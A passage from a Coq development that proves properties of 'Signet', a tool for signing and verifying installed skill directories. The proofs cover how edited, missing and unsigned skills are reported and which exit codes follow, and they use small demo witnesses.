  skills_dir ws = Some (Dir entries) ->
  find_skills ws
  = Ok (flat_map (skill_entry entries) (sorted (map fst entries))).
Proof. unfold find_skills. intros ->. reflexivity. Qed.

Lemma skill_entry_short entries k :
  skill_entry entries k = []
  \/ exists x, skill_entry entries k = [x] /\ fst x = k.
Proof.
  unfold skill_entry.
  destruct (lookup_entry k entries) as [[c|sub]|]; auto.
  destruct (in_list k SELF_SKILL_DIRS); auto.
  destruct (PyStr.startswith k ".quarantine"); auto.
  destruct (lookup_entry "SKILL.md" sub); auto.
  right. eexists. split; reflexivity.
Qed.

End VerifyFacts.

(** X18.  One changed file.  When the stored and the recomputed dict hold
    different non-empty hashes for one path and agree on all other paths,
    the report of the tampered skill is the single line MODIFIED for that
    path. *)
Theorem single_modified_file (trusted_files files : gmap string string)
  s a b :
  trusted_files !! s = Some a -> files !! s = Some b -> a <> b ->
  Signet.truthy a = true -> Signet.truthy b = true ->
  delete s trusted_files = delete s files ->
  Signet.changes trusted_files files = [Signet.MODIFIED s].
Proof.
  intros Ha Hb Hab Ta Tb Hrest.
  assert (Same : forall q, q <> s -> trusted_files !! q = files !! q).
  { intros q Hq.
    rewrite <- (lookup_delete_ne trusted_files s q) by congruence.
    rewrite <- (lookup_delete_ne files s q) by congruence.
    rewrite Hrest. reflexivity. }
  rewrite SignetFacts.changes_eq.
  rewrite (VerifyFacts.flat_map_single _ _ s).
  - unfold SignetFacts.change_of. rewrite Ha, Hb. simpl. rewrite Ta, Tb.
    rewrite bool_decide_false by congruence. reflexivity.
  - apply (HashFacts.strict_NoDup str_lt).
    + apply StrOrder.lt_irrefl.
    + apply SignetFacts.all_paths_strict.
  - apply SignetFacts.in_all_paths. left. rewrite Ha. eauto.
  - intros q Hq. unfold SignetFacts.change_of. rewrite (Same q Hq).
    destruct (Signet.truthy_opt (files !! q)); simpl.
    + rewrite bool_decide_true by reflexivity. reflexivity.
    + reflexivity.
Qed.

Definition edited_skill : Signet.node :=
  Signet.Dir [ ("SKILL.md", Signet.File (Some "# demo"));
               ("run.py", Signet.File (Some "print(2)")) ].

(** Signing [demo_skill] and editing run.py: the composite hashes differ and
    the report is the one line for run.py. *)
Lemma single_modified_file_witness :
  fst (Signet.skill_hash demo_skill) <> fst (Signet.skill_hash edited_skill)
  /\ Signet.changes (snd (Signet.skill_hash demo_skill))
       (snd (Signet.skill_hash edited_skill))
     = [Signet.MODIFIED "run.py"].
Proof.
  split; [vm_compute; discriminate|].
  apply (single_modified_file _ _ "run.py"
           (Sha256.hexdigest "print(1)") (Sha256.hexdigest "print(2)")).
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - vm_compute; discriminate.
  - apply ShaFacts.hexdigest_truthy.
  - apply ShaFacts.hexdigest_truthy.
  - vm_compute; reflexivity.
Defined.

(** X20.  [find_skills]: no skills directory gives the empty list, a file
    in its place raises; otherwise the result lists, in ascending order of
    their names, exactly the names of the skills directory that name a
    directory holding an entry SKILL.md, other than the tool's own
    directories and names that start with .quarantine. *)
Theorem find_skills_lists_installed ws :
  (Signet.skills_dir ws = None -> Signet.find_skills ws = Ok [])
  /\ (forall c, Signet.skills_dir ws = Some (Signet.File c) ->
                Signet.find_skills ws = Raise NotADirectoryError)
  /\ (forall entries,
        Signet.skills_dir ws = Some (Signet.Dir entries) ->
        exists found,
          Signet.find_skills ws = Ok found
          /\ StronglySorted str_le (map fst found)
          /\ forall name node,
               In (name, node) found
               <-> Signet.lookup_entry name entries = Some node
                   /\ Signet.in_list name Signet.SELF_SKILL_DIRS = false
                   /\ PyStr.startswith name ".quarantine" = false
                   /\ exists sub, node = Signet.Dir sub
                        /\ is_Some (Signet.lookup_entry "SKILL.md" sub)).
Proof.
  split; [apply SignetFacts.find_skills_absent|]. split.
  - intros c E. unfold Signet.find_skills. rewrite E. reflexivity.
  - intros entries E.
    pose proof (VerifyFacts.find_skills_dir ws entries E) as F.
    eexists. split; [exact F|]. split.
    + apply (VerifyFacts.sorted_selection str_le fst).
      * apply VerifyFacts.skill_entry_short.
      * apply StronglySorted_merge_sort; apply _.
    + intros name node. split.
      * intros Hin.
        destruct (RoundTrip.find_skills_lookup ws _ name node F Hin)
          as [entries' [sub [D [N [L [S1 [S2 S3]]]]]]].
        rewrite E in D. inversion D; subst entries'. eauto 10.
      * intros [L [S1 [S2 [sub [-> S3]]]]].
        apply in_flat_map. exists name. split.
        -- apply StrOrder.in_sorted, in_map_iff.
           exists (name, Signet.Dir sub). split; [reflexivity|].
           apply WalkFacts.lookup_in, L.
        -- unfold VerifyFacts.skill_entry. rewrite L, S1, S2.
           destruct S3 as [x ->]. left. reflexivity.
Qed.

(** X21.  A signed skill that is not among the skills being verified is
    reported MISSING and makes the exit code 2, unless it is one of the
    tool's own directories.  So is every other signed skill when
    [cmd_verify] is given the name of one skill. *)
Theorem missing_skill_is_reported ws skill_name m found name :
  Signet.load_manifest ws = Some m ->
  Signet.manifest_truthy m = true ->
  Signet.find_skills ws = Ok found ->
  In name (Dict.keys (Signet.manifest_skills m)) ->
  (forall s, In s (Signet.select_skill skill_name found) -> fst s <> name) ->
  Signet.in_list name Signet.SELF_SKILL_DIRS = false ->
  exists lines,
    Signet.cmd_verify ws skill_name = Ok (lines, 2)
    /\ In (Signet.MISSING name) lines.
Proof.
  intros L T F Hin Hsel Hself. unfold Signet.cmd_verify.
  rewrite L, T, F. cbn [negb mbind result_bind].
  destruct (VerifyFacts.check_removed_reports
              (Signet.select_skill skill_name found)
              (Dict.keys (Signet.manifest_skills m)) name Hin Hsel Hself
              (fold_left (Signet.verify_skill m)
                 (Signet.select_skill skill_name found)
                 {| Signet.tampered := []; Signet.unsigned := [];
                    Signet.clean := []; Signet.printed := [] |}))
    as [P Tn].
  eexists. split; [|exact P].
  destruct (Signet.tampered _); [contradiction | reflexivity].
Qed.

Definition two_signed : Signet.manifest :=
  {| Signet.version := Some 1; Signet.created := Some "t0";
     Signet.updated := Some "t1";
     Signet.skills :=
       Some [ ("demo", Signet.sign_record demo_skill "t1");
              ("gone", Signet.sign_record edited_skill "t1") ] |}.

Definition signed_elsewhere : Signet.workspace :=
  {| Signet.skills_dir := Some (Signet.Dir [("demo", demo_skill)]);
     Signet.manifest_json := Signet.Parsed two_signed |}.

Lemma missing_skill_is_reported_witness :
  Signet.cmd_verify signed_elsewhere None
  = Ok ([Signet.VERIFIED "demo"; Signet.MISSING "gone"], 2)
  /\ exists lines,
       Signet.cmd_verify signed_elsewhere (Some "gone") = Ok (lines, 2)
       /\ In (Signet.MISSING "demo") lines.
Proof.
  split; [vm_compute; reflexivity|].
  apply (missing_skill_is_reported signed_elsewhere (Some "gone") two_signed
           [("demo", demo_skill)] "demo").
  - reflexivity.
  - reflexivity.
  - vm_compute; reflexivity.
  - left. reflexivity.
  - intros s Hs. vm_compute in Hs. contradiction.
  - reflexivity.
Defined.

(* ===================================================================== *)
(** ** Unsigned skills and the quick status                               *)
(* ===================================================================== *)

Module StatusFacts.
Import Signet.

(** What one turn of the loop of [cmd_verify] does, by cases. *)
Lemma verify_skill_cases m st name node :
  (Dict.get name (manifest_skills m) = None
   /\ verify_skill m st (name, node)
      = {| tampered := tampered st; unsigned := unsigned st ++ [name];
           clean := clean st; printed := printed st ++ [UNSIGNED name] |})
  \/ (exists trusted,
        Dict.get name (manifest_skills m) = Some trusted
        /\ String.eqb (fst (skill_hash node)) (composite_hash trusted) = true
        /\ verify_skill m st (name, node)
           = {| tampered := tampered st; unsigned := unsigned st;
                clean := clean st ++ [name];
                printed := printed st ++ [VERIFIED name] |})
  \/ (exists trusted deltas,
        Dict.get name (manifest_skills m) = Some trusted
        /\ String.eqb (fst (skill_hash node)) (composite_hash trusted) = false
        /\ verify_skill m st (name, node)
           = {| tampered := tampered st ++ [name]; unsigned := unsigned st;
                clean := clean st;
                printed := printed st ++ [TAMPERED name deltas] |}).
Proof.
  unfold verify_skill.
  destruct (Dict.get name (manifest_skills m)) as [trusted|]; [|auto].
  right. destruct (skill_hash node) as [composite files]. cbn [fst].
  destruct (String.eqb composite (composite_hash trusted)) eqn:E.
  - left. exists trusted. auto.
  - right. eexists trusted, _. auto.
Qed.

Lemma snoc_nonempty {A} (l : list A) (x : A) : l ++ [x] <> [].
Proof. destruct l; discriminate. Qed.

Lemma verify_fold_grows m found :
  forall st,
    (forall l, In l (printed st) ->
               In l (printed (fold_left (verify_skill m) found st)))
    /\ (unsigned st <> [] ->
        unsigned (fold_left (verify_skill m) found st) <> [])
    /\ (tampered st <> [] ->
        tampered (fold_left (verify_skill m) found st) <> []).
Proof.
  induction found as [|[name node] found IH]; intros st; [simpl; auto|].
  cbn [fold_left].
  destruct (IH (verify_skill m st (name, node))) as [P [U T]].
  destruct (verify_skill_cases m st name node)
    as [[_ E] | [[tr [_ [_ E]]] | [tr [ds [_ [_ E]]]]]];
    rewrite E in *; cbn [printed unsigned tampered] in *;
    (split; [|split]);
    first [ intros l Hl; apply P, in_app_iff; left; exact Hl
          | intros H; apply U; first [exact H | apply snoc_nonempty]
          | intros H; apply T; first [exact H | apply snoc_nonempty] ].
Qed.

Lemma verify_fold_unsigned m found name node :
  In (name, node) found ->
  Dict.get name (manifest_skills m) = None ->
  forall st,
    In (UNSIGNED name) (printed (fold_left (verify_skill m) found st))
    /\ unsigned (fold_left (verify_skill m) found st) <> [].
Proof.
  intros Hin G. induction found as [|[n nd] found IH]; [destruct Hin|].
  intros st. cbn [fold_left]. destruct Hin as [E | Hin].
  - inversion E; subst n nd.
    destruct (verify_fold_grows m found (verify_skill m st (name, node)))
      as [P [U _]].
    destruct (verify_skill_cases m st name node)
      as [[_ V] | [[tr [G' _]] | [tr [ds [G' _]]]]]; try congruence.
    rewrite V in *. cbn [printed unsigned] in *. split.
    + apply P, in_app_iff. right. left. reflexivity.
    + apply U, snoc_nonempty.
  - apply (IH Hin).
Qed.

(** The counters of [cmd_status] are the lengths of the lists of
    [cmd_verify]. *)
Lemma status_counts m found :
  forall st,
    fold_left (status_skill m) found
      (List.length (tampered st), List.length (unsigned st))
    = (List.length (tampered (fold_left (verify_skill m) found st)),
       List.length (unsigned (fold_left (verify_skill m) found st))).
Proof.
  induction found as [|[name node] found IH]; intros st; [reflexivity|].
  cbn [fold_left]. rewrite <- IH. f_equal.
  unfold status_skill.
  destruct (verify_skill_cases m st name node)
    as [[G V] | [[tr [G [E V]]] | [tr [ds [G [E V]]]]]];
    rewrite V, G; cbn [tampered unsigned].
  - rewrite List.length_app. reflexivity.
  - destruct (skill_hash node) as [composite files]. cbn [fst] in E.
    rewrite E. reflexivity.
  - destruct (skill_hash node) as [composite files]. cbn [fst] in E.
    rewrite E, List.length_app. reflexivity.
Qed.

Lemma check_removed_origin found names :
  forall st,
    tampered st = [] ->
    tampered (fold_left (check_removed found) names st) <> [] ->
    exists name,
      In (MISSING name) (printed (fold_left (check_removed found) names st)).
Proof.
  induction names as [|n names IH]; intros st E H; [contradiction|].
  cbn [fold_left] in *.
  destruct (VerifyFacts.check_removed_grows found names
              (check_removed found st n)) as [P _].
  unfold check_removed in *.
  destruct (negb _ && negb _).
  - exists n. apply P. cbn [printed]. apply in_app_iff. right. left.
    reflexivity.
  - apply (IH st E H).
Qed.

End StatusFacts.

(** X22.  A skill on disk without a record in the manifest is reported
    UNSIGNED, and the exit code is then 1, or 2 when some skill is tampered
    or missing; it is never 0. *)
Theorem unsigned_skill_is_reported ws skill_name m found name node :
  Signet.load_manifest ws = Some m ->
  Signet.manifest_truthy m = true ->
  Signet.find_skills ws = Ok found ->
  In (name, node) (Signet.select_skill skill_name found) ->
  Dict.get name (Signet.manifest_skills m) = None ->
  exists lines code,
    Signet.cmd_verify ws skill_name = Ok (lines, code)
    /\ In (Signet.UNSIGNED name) lines
    /\ (code = 1 \/ code = 2).
Proof.
  intros L T F Hin G. unfold Signet.cmd_verify.
  rewrite L, T, F. cbn [negb mbind result_bind].
  set (st0 := {| Signet.tampered := []; Signet.unsigned := [];
                 Signet.clean := []; Signet.printed := [] |}).
  destruct (StatusFacts.verify_fold_unsigned m _ name node Hin G st0)
    as [P U].
  set (st1 := fold_left (Signet.verify_skill m)
                (Signet.select_skill skill_name found) st0) in *.
  destruct (VerifyFacts.check_removed_grows
              (Signet.select_skill skill_name found)
              (Dict.keys (Signet.manifest_skills m)) st1) as [P' [_ U']].
  eexists _, _. split; [reflexivity|]. split; [apply P', P|].
  rewrite U'. destruct (Signet.tampered _); [|auto].
  destruct (Signet.unsigned st1); [contradiction | auto].
Qed.

Definition half_signed : Signet.workspace :=
  {| Signet.skills_dir :=
       Some (Signet.Dir [("demo", demo_skill); ("extra", edited_skill)]);
     Signet.manifest_json :=
       Signet.Parsed
         {| Signet.version := Some 1; Signet.created := Some "t0";
            Signet.updated := Some "t1";
            Signet.skills :=
              Some [("demo", Signet.sign_record demo_skill "t1")] |} |}.

Lemma unsigned_skill_is_reported_witness :
  Signet.cmd_verify half_signed None
  = Ok ([Signet.VERIFIED "demo"; Signet.UNSIGNED "extra"], 1)
  /\ exists lines code,
       Signet.cmd_verify half_signed None = Ok (lines, code)
       /\ In (Signet.UNSIGNED "extra") lines
       /\ (code = 1 \/ code = 2).
Proof.
  split; [vm_compute; reflexivity|].
  eapply (unsigned_skill_is_reported half_signed None _
            [("demo", demo_skill); ("extra", edited_skill)]
            "extra" edited_skill).
  - reflexivity.
  - reflexivity.
  - vm_compute; reflexivity.
  - right. left. reflexivity.
  - reflexivity.
Defined.

(** X23.  The quick status against the full verification.  [cmd_status]
    and [cmd_verify] for all skills fail together; otherwise the status
    code is at most the verify code, and the two differ only when the
    verify code is 2 because of a skill reported MISSING, which the status
    does not look for. *)
Theorem status_versus_verify ws :
  match Signet.cmd_status ws, Signet.cmd_verify ws None with
  | Ok c, Ok (lines, c') =>
      c <= c'
      /\ (c <> c' -> c' = 2 /\ exists name, In (Signet.MISSING name) lines)
  | Raise e, Raise e' => e = e'
  | _, _ => False
  end.
Proof.
  unfold Signet.cmd_status, Signet.cmd_verify.
  destruct (Signet.load_manifest ws) as [m|]; [|split; [lia | congruence]].
  destruct (Signet.manifest_truthy m); cbn [negb];
    [|split; [lia | congruence]].
  destruct (Signet.find_skills ws) as [found|e];
    cbn [mbind result_bind Signet.select_skill]; [|reflexivity].
  set (st0 := {| Signet.tampered := []; Signet.unsigned := [];
                 Signet.clean := []; Signet.printed := [] |}).
  pose proof (StatusFacts.status_counts m found st0) as C.
  cbn [Signet.tampered Signet.unsigned st0 List.length] in C.
  rewrite C. clear C.
  set (st1 := fold_left (Signet.verify_skill m) found st0).
  destruct (VerifyFacts.check_removed_grows found
              (Dict.keys (Signet.manifest_skills m)) st1) as [_ [T U]].
  pose proof (StatusFacts.check_removed_origin found
                (Dict.keys (Signet.manifest_skills m)) st1) as O.
  set (st2 := fold_left (Signet.check_removed found)
                (Dict.keys (Signet.manifest_skills m)) st1) in *.
  rewrite U.
  destruct (Signet.tampered st1) as [|t1 ts1] eqn:E1.
  - cbn [List.length Nat.ltb Nat.leb].
    destruct (Signet.tampered st2) as [|t2 ts2] eqn:E2.
    + destruct (Signet.unsigned st1); cbn; split; try lia; congruence.
    + assert (M : exists name, In (Signet.MISSING name)
                                  (Signet.printed st2))
        by (apply O; [reflexivity | discriminate]).
      destruct (Signet.unsigned st1); cbn; split; try lia; auto.
  - assert (N : Signet.tampered st2 <> []) by (apply T; discriminate).
    destruct (Signet.tampered st2); [contradiction|].
    cbn. split; [lia | congruence].
Qed.

(** X24.  [file_hash] returns [None] exactly for a file that cannot be
    read; for a readable file, the empty one included, it returns
    sixty-four characters, so the test [if fh] of [skill_hash] never drops
    a readable file. *)
Theorem file_hash_of_readable content :
  (Signet.file_hash content = None <-> content = None)
  /\ (forall fh, Signet.file_hash content = Some fh ->
                 String.length fh = 64 /\ Signet.truthy fh = true).
Proof.
  destruct content as [bytes|]; simpl; split.
  - split; discriminate.
  - intros fh E. inversion E; subst. split.
    + apply ShaFacts.hexdigest_length.
    + apply ShaFacts.hexdigest_truthy.
  - tauto.
  - intros fh E. discriminate E.
Qed.
